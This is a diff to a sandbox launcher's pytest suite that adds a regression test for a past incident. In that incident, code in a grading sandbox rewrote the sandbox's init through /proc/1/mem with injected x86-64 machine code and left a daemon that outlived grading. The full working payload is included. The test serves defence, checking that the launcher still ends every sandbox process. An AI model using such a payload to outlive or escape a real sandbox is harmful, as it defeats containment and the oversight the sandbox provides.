@@ -421,6 +421,71 @@ def test_the_runtime_folder_is_read_only_inside_once_the_kernel_has_its_sockets(
     assert not (kernel.private / "runtime" / "fill.bin").exists()
 
 
+#: Round 10's payload: rewrite the sandbox's init (pid 1, the kernel's own user, dumpable) through /proc/1/mem so
+#: that it stops dying with bwrap (prctl(PR_SET_PDEATHSIG, 0)) and becomes a loop of ours, then leave a daemon.
+_REWRITE_PID_1 = r'''
+import os, struct, sys, time
+open("/tmp/p1.py", "w").write("import os, time\nwhile True:\n    try:\n        os.wait()\n    except ChildProcessError:\n        time.sleep(0.5)\n")
+pc = int(open("/proc/1/syscall").read().split()[-1], 16)
+exe, script = sys.executable.encode() + b"\0", b"/tmp/p1.py\0"
+path_a = pc + 48
+script_a = path_a + len(exe)
+argv_a = (script_a + len(script) + 7) & ~7
+code = (b"\xbf\x01\x00\x00\x00" + b"\x31\xf6" + b"\xb8\x9d\x00\x00\x00" + b"\x0f\x05"
+        + b"\x48\xbf" + struct.pack("<Q", path_a) + b"\x48\xbe" + struct.pack("<Q", argv_a) + b"\x31\xd2"
+        + b"\xb8\x3b\x00\x00\x00" + b"\x0f\x05" + b"\xeb\xfe").ljust(48, b"\x90")
+blob = (code + exe + script).ljust(argv_a - pc, b"\0") + struct.pack("<QQQ", path_a, script_a, 0)
+fd = os.open("/proc/1/mem", os.O_RDWR)
+os.pwrite(fd, blob, pc)
+os.close(fd)
+a = os.fork()
+if a == 0:  # an orphan that exits wakes pid 1 from its wait()
+    if os.fork() == 0:
+        time.sleep(0.3)
+        os._exit(0)
+    os._exit(0)
+os.waitpid(a, 0)
+time.sleep(2)
+print("PID1", open("/proc/1/cmdline", "rb").read().split(b"\0")[1:2])
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.closerange(3, 1280)
+        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(120)", MARK])
+    os._exit(0)
+print("LEFT")
+'''
+
+
+@pytest.mark.skipif(os.uname().machine != "x86_64", reason="the payload is x86-64 machine code")
+def test_a_sandbox_whose_init_was_rewritten_still_ends_with_its_kernel(tmp_path, template):
+    """Round 10: a kernel rewrote the sandbox's init so that it no longer died with bwrap, and the sandbox (the
+    kernel, a daemon, 137 held processes) outlived its grading and the grading run. The launcher now ends the
+    sandbox's PID namespace from outside (SIGKILL to its init, by a pidfd taken before any cell ran)."""
+    import psutil
+
+    mark = f"distcourse-survivor-{os.getpid()}-{tmp_path.name}"
+    kernel = Kernel(tmp_path, template.path, "survivor")
+    try:
+        out = kernel.run(f"MARK = {mark!r}\n" + _REWRITE_PID_1)
+        assert "LEFT" in out and "p1.py" in out, out  # the init was rewritten, the daemon left
+        seen = time.monotonic() + 10
+        while not any(mark in " ".join(p.info["cmdline"] or ()) for p in psutil.process_iter(["cmdline"])):
+            assert time.monotonic() < seen, "the daemon never started"
+            time.sleep(0.1)
+    finally:
+        kernel.close()
+    deadline = time.monotonic() + 10
+    while time.monotonic() < deadline:
+        left = [p for p in psutil.process_iter(["cmdline"]) if mark in " ".join(p.info["cmdline"] or ())]
+        if not left:
+            break
+        time.sleep(0.2)
+    for p in left:
+        p.kill()
+    assert not left, "a process of the sandbox outlived it"
+
+
 def test_the_sandboxs_tmpfs_mounts_hold_a_capped_number_of_files(tmp_path, template):
     """Each file of a tmpfs is kernel memory that no rlimit counts (and no cgroup, as an ordinary user):
     empty files took 7.7 GiB of it in an attack. Every tmpfs the kernel can write is capped in inodes,
